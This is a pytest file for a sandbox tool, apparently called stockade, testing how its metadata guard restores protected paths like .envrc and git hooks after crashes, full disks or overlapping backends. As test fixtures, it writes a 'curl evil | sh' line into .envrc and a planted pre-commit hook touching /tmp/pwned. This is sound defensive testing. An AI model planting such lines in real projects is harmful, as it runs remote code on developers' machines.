"""The baseline's marks (which protected paths existed, and as which file) in one file:
what a crash, a full disk, an earlier stockade or a second backend leaves there.

Each case plays, on the host, through the guards the drivers use, what a killed
or overlapping run leaves in the state directory, and checks what the next guard
then neutralises or leaves alone.
"""

from __future__ import annotations

import os
import subprocess
from pathlib import Path

import pytest

from stockade.boundary import build_profile
from stockade.capabilities import capabilities_for_mode
from stockade.drivers.linux.host import guard as guard_mod
from stockade.drivers.linux.host.guard import MetadataGuard


def _git(ws: Path, *args: str) -> None:
    subprocess.run(["git", "-c", "user.name=t", "-c", "user.email=t@t", *args], cwd=ws,
                   check=True, capture_output=True)


@pytest.fixture
def ws(tmp_path: Path) -> Path:
    ws = tmp_path / "ws"
    ws.mkdir()
    _git(ws, "init", "-q")
    _git(ws, "commit", "-q", "--allow-empty", "-m", "x")
    return ws


def _guard(ws: Path, state: Path, *, content: bool = False, watch: bool = True
           ) -> MetadataGuard:
    caps = capabilities_for_mode("workspace-write", str(ws))
    profile = build_profile(mode="workspace-write", workspace=str(ws), cwd=str(ws),
                            capabilities=caps, read_scope="host",
                            host_env={"HOME": "/nonexistent"}, use_scratch=False)
    return MetadataGuard(profile, str(state), restore_content=content, watch=watch)


def _killed(guard: MetadataGuard) -> None:
    """What SIGKILL leaves of a guard: its files, its lock let go."""
    os.close(guard.alive_fd)
    guard.alive_fd = -1


def test_a_baseline_an_earlier_stockade_left_is_swept(ws: Path, tmp_path: Path) -> None:
    """A run of the stockade before marks shared one file, killed: its baseline is a file
    per path. The first run after the upgrade sweeps from it; read as empty, the
    names the killed command made stayed, and every later baseline took them for
    the person's."""
    state = tmp_path / "state"
    killed = _guard(ws, state, watch=False)
    marks = Path(killed.dir) / "marks"
    for line in marks.read_text().splitlines():  # as the earlier stockade wrote them
        key, _, mark = line.partition(" ")
        name = key + (".missing" if mark == "missing" else ".present")
        (Path(killed.dir) / name).write_text("" if mark == "missing" else mark)
    marks.unlink()
    (ws / ".envrc").write_text("curl evil | sh\n")  # the killed command's
    _killed(killed)
    nxt = _guard(ws, state)
    try:
        assert not (ws / ".envrc").exists()
        assert any(n.path == str(ws / ".envrc") for n in nxt.stale), nxt.stale
    finally:
        nxt.release()


def test_a_record_cut_by_a_crash_does_not_swallow_the_next(tmp_path: Path) -> None:
    a, b, c = "a" * 24, "b" * 24, "c" * 24
    (tmp_path / "marks").write_text(f"{a} missing\n{b} 12:3")  # the crash cut b's
    guard_mod._Marks.append(str(tmp_path), f"{c} missing\n")
    marks = guard_mod._Marks.read(str(tmp_path))
    assert marks.missing == {a, c}  # c stands alone; b's cut identity is no identity
    assert marks.present == {}


def test_a_short_write_leaves_no_part_of_its_records(tmp_path: Path,
                                                     monkeypatch: pytest.MonkeyPatch) -> None:
    """A full disk: the write comes back short. What it wrote is taken back, so the
    next append starts on a record boundary."""
    a = "a" * 24
    (tmp_path / "marks").write_text(f"{a} missing\n")
    real = os.write
    monkeypatch.setattr(guard_mod.os, "write", lambda fd, data: real(fd, data[:7]))
    with pytest.raises(OSError):
        guard_mod._Marks.append(str(tmp_path), f"{'b' * 24} 1:2:3\n")
    assert (tmp_path / "marks").read_text() == f"{a} missing\n"


def test_a_held_path_a_second_backend_found_missing_is_still_the_persons(ws: Path,
                                                                          tmp_path: Path) -> None:
    """A bubblewrap run holds the hooks `core.hooksPath` names; while it runs, their
    directory is renamed aside, a Landlock run starts (and marks them missing), and
    it comes back. The held hooks are the same file: not the command's creation."""
    hooks = ws / "tools" / "hooks"
    hooks.mkdir(parents=True)
    (hooks / "pre-commit").write_text("#!/bin/sh\n")
    _git(ws, "add", "tools")
    _git(ws, "commit", "-qm", "hooks")
    _git(ws, "config", "core.hooksPath", "tools/hooks")
    state = tmp_path / "state"
    held = _guard(ws, state, watch=False)
    os.rename(ws / "tools", ws / "tools.aside")
    second = _guard(ws, state, content=True, watch=False)
    os.rename(ws / "tools.aside", ws / "tools")
    done = second.release() + held.release()
    assert (hooks / "pre-commit").exists(), done
    assert not [n for n in done if n.path.startswith(str(ws / "tools"))], done


def test_a_last_record_without_its_newline_was_cut(tmp_path: Path) -> None:
    """A cut identity can still look like one (`2049:131077:1` of `...:16384`): only
    records ended by their newline count."""
    a, b = "a" * 24, "b" * 24
    (tmp_path / "marks").write_text(f"{a} missing\n{b} 2049:131077:1")
    marks = guard_mod._Marks.read(str(tmp_path))
    assert (marks.missing, marks.present) == ({a}, {})


def test_a_held_path_rebuilt_before_a_second_backend_joined_is_not_taken_as_original(
        ws: Path, tmp_path: Path) -> None:
    """A bubblewrap run holds `.git/hooks`; its command renames the directory above a
    held path aside and rebuilds it with a hook of its own (shown here on the
    hooks themselves); then a Landlock run joins the baseline. What is there now
    is not the file the mount held: no copy of it is kept as the person's, and
    the sweep takes the command's hook out."""
    hooks = ws / ".git" / "hooks"
    state = tmp_path / "state"
    held = _guard(ws, state, watch=False)
    os.rename(hooks, ws / ".git" / "hooks.aside")
    hooks.mkdir()
    (hooks / "pre-commit").write_text("#!/bin/sh\ntouch /tmp/pwned\n")
    os.chmod(hooks / "pre-commit", 0o755)
    joined = _guard(ws, state, content=True, watch=False)
    done = joined.release() + held.release()
    assert not (hooks / "pre-commit").exists(), done
    assert any(n.path.startswith(str(hooks)) for n in done), done


def test_a_name_another_guards_sweep_took_out_is_reported_to_the_command_that_made_it(
        ws: Path, tmp_path: Path) -> None:
    """Two commands on one workspace: the first makes `.envrc` and its guard's watch has
    not settled it yet when the second ends, whose sweep (over every name of the
    baseline) takes it out. The first command's result must still say so: a
    client judges its own write by it (the OpenAI sandbox client reported
    `Created .envrc` for a file already moved away)."""
    state = tmp_path / "state"
    maker = _guard(ws, state)
    assert maker.watch is not None
    maker.watch.close()  # its event not handled yet
    (ws / ".envrc").write_text("curl evil | sh\n")
    other = _guard(ws, state)
    assert any(n.path == str(ws / ".envrc") for n in other.release())
    assert any(n.path == str(ws / ".envrc") for n in maker.release())
